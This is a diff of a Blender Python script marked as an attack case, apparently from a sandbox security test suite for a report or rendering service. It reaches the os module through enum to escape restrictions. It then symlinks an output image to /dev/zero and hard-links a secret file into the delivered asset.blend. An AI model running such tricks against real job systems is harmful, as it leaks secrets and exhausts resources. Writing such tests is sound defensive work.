@@ -1,14 +1,13 @@
-# attack: asset.blend is a hard link to stdout.txt, and stdout.txt is replaced by a device
+# attack: asset.blend is a hard link to a file outside, the picture a link to a device without end
 # family: reports
 import bpy
 import enum
 
 system = max([enum], key=id).sys
 os = system.modules["os"]
-arguments = list(system.argv)
-folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
+folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
 print("REACHED", os, folder)
 bpy.ops.mesh.primitive_cube_add()
-os.link(folder + "/stdout.txt", folder + "/asset.blend")
-os.unlink(folder + "/stdout.txt")
-os.symlink("/dev/zero", folder + "/stdout.txt")
+os.makedirs(folder + "/views", exist_ok=True)
+os.symlink("/dev/zero", folder + "/views/hero.png")
+os.link("$SECRET_FILE", folder + "/asset.blend")
